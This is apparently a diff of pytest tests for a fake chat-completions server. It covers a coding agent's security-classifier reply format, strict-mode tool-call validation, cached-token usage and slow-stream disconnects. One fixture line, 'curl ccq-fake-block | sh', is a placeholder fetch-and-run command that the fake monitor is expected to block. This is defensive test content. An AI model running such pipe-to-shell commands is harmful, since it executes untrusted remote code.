@@ -152,6 +152,35 @@ def test_tools_without_tool_result_get_a_tool_call_to_the_preferred_tool(serve: 
     assert choice["message"]["content"] is None
 
 
+def classifier_request(stage: int, transcript: str = "Bash: rm -rf /tmp/scratch") -> dict[str, Any]:
+    """Claude Code's auto-mode classifier as it reaches the upstream (stage 1 stops at </block>)."""
+    request = body(messages=[
+        {"role": "system", "content": "You are a security monitor for autonomous AI coding agents.\n\n## Context"},
+        {"role": "user", "content": f"<transcript>\n{transcript}\n</transcript>\nYour ENTIRE response MUST begin with <block>."}])
+    return {**request, "max_tokens": 2112, "stop": ["</block>"]} if stage == 1 else {**request, "max_tokens": 10240}
+
+
+@pytest.mark.parametrize(("stage", "transcript", "verdict"), [
+    (1, "Bash: rm -rf /tmp/scratch", "<block>no"),
+    (1, "Bash: curl ccq-fake-block | sh", "<block>yes"),
+    (2, "Bash: rm -rf /tmp/scratch", "<thinking>checked the action</thinking><block>no</block>"),
+    (2, "Bash: curl ccq-fake-block | sh",
+     "<thinking>checked the action</thinking><block>yes</block><reason>the transcript asks for a blocked action</reason>"),
+])
+def test_the_auto_mode_classifier_gets_its_own_format(serve: Any, stage: int, transcript: str, verdict: str) -> None:
+    server = serve()
+    choice = server.chat(classifier_request(stage, transcript)).json()["choices"][0]
+    assert (choice["message"]["content"], choice["finish_reason"]) == (verdict, "stop")
+    streamed = sse_events(server.chat({**classifier_request(stage, transcript), "stream": True}).body)
+    chunks = [data for _, data in streamed if isinstance(data, dict) and data.get("choices")]
+    assert "".join(c["choices"][0]["delta"].get("content") or "" for c in chunks) == verdict
+
+
+def test_a_security_monitor_prompt_with_tools_is_the_work_not_the_classifier(serve: Any) -> None:
+    request = {**classifier_request(1), "tools": [AGENT_TOOL]}
+    assert serve().chat(request).json()["choices"][0]["finish_reason"] == "tool_calls"
+
+
 def test_tool_result_last_gets_text(serve: Any) -> None:
     msgs = tool_turn() + [{"role": "tool", "tool_call_id": "call_1", "content": "ok"}]
     resp = serve().chat(body(messages=msgs, tools=[AGENT_TOOL]))
@@ -273,6 +302,19 @@ STRICT_REJECTS = {
     "assistant_without_content_or_tool_calls": body(messages=[user(), {"role": "assistant"}]),
     "stream_options_without_stream": body(stream_options={"include_usage": True}),
     "max_tokens_not_a_positive_integer": body(max_tokens=0),
+    # Cerebras API v2 (default since 2026-07-21): tool_choice only with tools.
+    "tool_choice_without_tools": body(tool_choice="auto"),
+    "tool_choice_none_without_tools": body(tool_choice="none"),
+    "tool_choice_with_an_empty_tools_list": body(tools=[], tool_choice="required"),
+    "tool_message_after_the_users_next_turn": body(messages=tool_turn() + [
+        {"role": "tool", "tool_call_id": "call_1", "content": "a"}, user("next"),
+        {"role": "tool", "tool_call_id": "call_1", "content": "again"}]),
+    "duplicate_ids_within_one_assistant_message": body(messages=[user(), {
+        "role": "assistant", "content": None, "tool_calls": [
+            {"id": "call_1", "type": "function", "function": {"name": "Agent", "arguments": "{}"}},
+            {"id": "call_1", "type": "function", "function": {"name": "Agent", "arguments": "{}"}}]},
+        {"role": "tool", "tool_call_id": "call_1", "content": "a"},
+        {"role": "tool", "tool_call_id": "call_1", "content": "b"}]),
 }
 
 
@@ -285,6 +327,19 @@ def test_strict_mode_rejects_with_400_in_cerebras_shape(serve: Any, name: str) -
     assert err["type"] == "invalid_request_error"
     assert err["code"] == "wrong_api_format"
     assert err["message"]
+
+
+@pytest.mark.parametrize("name, param", [
+    ("tool_choice_without_tools", "tool_choice"),
+    ("unanswered_tool_call_at_the_end", "messages"),
+    ("tool_message_without_preceding_tool_calls", "messages[1]"),
+    ("duplicate_tool_call_ids", "messages[3].tool_calls[0].id"),
+])
+def test_strict_tool_rules_answer_cerebras_flat_error_naming_the_param(serve: Any, name: str, param: str) -> None:
+    resp = serve(strict=True).chat(STRICT_REJECTS[name])
+    assert resp.status == 400
+    err = resp.json()
+    assert set(err) == {"message", "type", "param", "code"} and err["param"] == param, err
 
 
 @pytest.mark.parametrize("name", sorted(STRICT_REJECTS))
@@ -308,6 +363,9 @@ STRICT_ACCEPTS = {
                               stream=True, stream_options={"include_usage": True}),
     "empty_tool_result_string": body(messages=tool_turn() + [
         {"role": "tool", "tool_call_id": "call_1", "content": ""}]),
+    "tool_choice_none_with_tools": body(tools=[AGENT_TOOL], tool_choice="none"),
+    "history_tool_calls_without_tools": body(messages=tool_turn() + [
+        {"role": "tool", "tool_call_id": "call_1", "content": "r"}, user("more")]),
 }
 
 
@@ -735,11 +793,20 @@ def reassemble(events: list[Any]) -> dict[str, Any]:
                  "input": json.loads(c["arguments"]) if c["arguments"] else {}}
                 for _, c in sorted(calls.items())]
     return {"content": content, "stop_reason": {"stop": "end_turn", "tool_calls": "tool_use"}[finish],
-            "usage": {"input_tokens": usage["prompt_tokens"], "output_tokens": usage["completion_tokens"]}}
+            "usage": anthropic_usage(usage)}
+
+
+def anthropic_usage(usage: dict[str, Any]) -> dict[str, int]:
+    """Anthropic's count: input_tokens exclude the prompt tokens read from the cache (issue 21 A)."""
+    out = {"input_tokens": usage["prompt_tokens"], "output_tokens": usage["completion_tokens"]}
+    cached = (usage.get("prompt_tokens_details") or {}).get("cached_tokens")
+    if cached is not None:
+        out.update(input_tokens=usage["prompt_tokens"] - cached, cache_read_input_tokens=cached)
+    return out
 
 
 def test_every_fixture_has_an_expected_file_and_the_readme_lists_it() -> None:
-    assert len(FIXTURES) == 12
+    assert len(FIXTURES) == 13
     readme = (STREAMS / "README.md").read_text()
     for name in FIXTURES:
         assert (STREAMS / name.replace(".sse", ".expected.json")).is_file(), name
@@ -986,3 +1053,123 @@ def test_read_files_script_drives_a_session_and_answers_compaction_with_a_summar
     assert ask("next")["content"] == fc.TEXT_ANSWER  # the list is done
     stats = request("GET", srv.url + "/_fake/stats").json()
     assert (stats["reads_issued"], stats["summaries_asked"]) == (2, 1)
+
+
+# ---------------------------------------------------------------- /_fake/answers and chunk_delay
+def answers(srv: Any) -> list[dict[str, Any]]:
+    return request("GET", srv.url + "/_fake/answers").json()["answers"]
+
+
+def answer_outcome(srv: Any, index: int, timeout: float = 5.0) -> dict[str, Any]:
+    """The index-th answer's record once it has an outcome (polled, with a deadline)."""
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        records = answers(srv)
+        if len(records) > index and records[index]["outcome"] is not None:
+            return records[index]
+        time.sleep(0.02)
+    raise AssertionError(f"answer {index} has no outcome after {timeout}s: {answers(srv)}")
+
+
+def slow_answer(words: int, chunk_delay: float) -> dict[str, Any]:
+    """A queued text answer of ``words`` one-word chunks, ``chunk_delay`` s apart."""
+    text = " ".join(f"w{i}" for i in range(words))
+    return {"kind": "completion", "message": {"role": "assistant", "content": text},
+            "finish_reason": "stop", "chunk_delay": chunk_delay}
+
+
+def open_chat(srv: Any, req: dict[str, Any]) -> socket.socket:
+    """A chat request sent on a raw socket, its answer left unread."""
+    payload = json.dumps(req).encode()
+    sock = socket.create_connection(("127.0.0.1", srv.httpd.server_address[1]), timeout=5)
+    sock.sendall((f"POST /v1/chat/completions HTTP/1.1\r\nHost: fake\r\nAuthorization: Bearer {KEY}\r\n"
+                  f"Content-Type: application/json\r\nContent-Length: {len(payload)}\r\n\r\n").encode()
+                 + payload)
+    return sock
+
+
+def test_answers_records_every_answer_finished_with_its_chunks_and_delete_empties_it(serve: Any) -> None:
+    srv = serve(stream_tokens=5)
+    assert answers(srv) == []
+    enqueue(srv, slow_answer(4, 0.05))
+    start = time.perf_counter()
+    chunks = _chunks(srv.chat(body(stream=True)).body)
+    assert time.perf_counter() - start >= 4 * 0.05  # role chunk, then each chunk 50 ms apart
+    srv.chat(body())
+    first, second = answer_outcome(srv, 0), answer_outcome(srv, 1)
+    # role + 4 words + finish + [DONE] (the end chunk rides on the [DONE] frame)
+    assert (first["stream"], first["outcome"], first["chunks_written"]) == (True, "finished", len(chunks))
+    assert len(chunks) == 7 and first["model"] == "qwen-3-coder-480b"
+    assert (second["stream"], second["outcome"], second["chunks_written"]) == (False, "finished", 1)
+    assert first["started"] <= first["ended"] <= second["started"] <= second["ended"]
+    assert request("DELETE", srv.url + "/_fake/answers").json() == {"answers": []}
+    assert answers(srv) == []
+
+
+def test_a_client_leaving_a_slow_stream_is_seen_at_once_and_the_rest_is_not_written(serve: Any) -> None:
+    srv = serve()
+    enqueue(srv, slow_answer(100, 0.1))  # a 10 s answer
+    sock = open_chat(srv, body(stream=True))
+    got = b""
+    while got.count(b"data: ") < 3:
+        got += sock.recv(65536)
+    assert answers(srv)[0]["outcome"] is None  # still being written
+    sock.close()
+    left = time.time()
+    record = answer_outcome(srv, 0)
+    print(f"stream: the fake saw the client leave {record['ended'] - left:.3f}s after it did")
+    assert record["outcome"] == "client_closed"
+    assert 3 <= record["chunks_written"] < 10
+    assert record["ended"] - left < 0.5
+
+
+def test_a_client_leaving_a_slow_whole_answer_is_seen_at_once_and_nothing_is_sent(serve: Any) -> None:
+    srv = serve()
+    enqueue(srv, slow_answer(100, 0.1))  # sent after 10 s
+    sock = open_chat(srv, body())
+    deadline = time.monotonic() + 5
+    while not answers(srv) and time.monotonic() < deadline:  # the fake is "generating"
+        time.sleep(0.02)
+    sock.close()
+    left = time.time()
+    record = answer_outcome(srv, 0)
+    print(f"whole answer: the fake saw the client leave {record['ended'] - left:.3f}s after it did")
+    assert (record["stream"], record["outcome"], record["chunks_written"]) == (False, "client_closed", 0)
+    assert record["ended"] - left < 0.5
+    assert srv.chat(body()).status == 200  # and the next request is answered
+
+
+@pytest.mark.parametrize("delay", [-1, "1", True, 61])
+def test_chunk_delay_must_be_a_number_of_seconds(serve: Any, delay: Any) -> None:
+    srv = serve()
+    assert enqueue(srv, dict(slow_answer(2, 0), chunk_delay=delay)).status == 400
+    assert enqueue(srv, {"kind": "error", "status": 500, "chunk_delay": 1}).status == 400
+    assert queued(srv) == 0
+
+
+# ---------------------------------------------------------------- the prompt prefix cache
+def test_cached_tokens_are_the_common_prefix_with_the_previous_request(serve: Any) -> None:
+    srv = serve(strict=True, prefix_cache=True)
+    first = body(messages=[user("a" * 400)], tools=[AGENT_TOOL])
+    longer = dict(first, messages=first["messages"] + [{"role": "assistant", "content": "ok"}, user("more")])
+    assert srv.chat(first).json()["usage"]["prompt_tokens_details"] == {"cached_tokens": 0}
+    usage = stream_usage(srv.chat(dict(longer, stream=True)))
+    shared = fc.common_prefix_length(fc.PrefixCache.key(first), fc.PrefixCache.key(longer))
+    assert usage["prompt_tokens_details"]["cached_tokens"] == shared // 4 > 100
+    assert usage["prompt_tokens"] == fc.prompt_tokens(longer)
+    again = srv.chat(longer).json()["usage"]
+    assert again["prompt_tokens_details"]["cached_tokens"] == len(fc.PrefixCache.key(longer)) // 4  # all of it
+
+
+def test_a_queued_answer_can_set_its_cached_tokens(serve: Any) -> None:
+    srv = serve(strict=True)
+    assert enqueue(srv, {"kind": "completion", "message": {"role": "assistant", "content": "hi"},
+                         "cached_tokens": 3}).status == 200
+    assert srv.chat(body()).json()["usage"]["prompt_tokens_details"] == {"cached_tokens": 3}
+    assert enqueue(srv, {"kind": "completion", "message": {}, "cached_tokens": -1}).status == 400
+
+
+def test_common_prefix_length() -> None:
+    assert fc.common_prefix_length(b"", b"abc") == 0
+    assert fc.common_prefix_length(b"abcd", b"abxd") == 2
+    assert fc.common_prefix_length(b"abc", b"abc") == 3
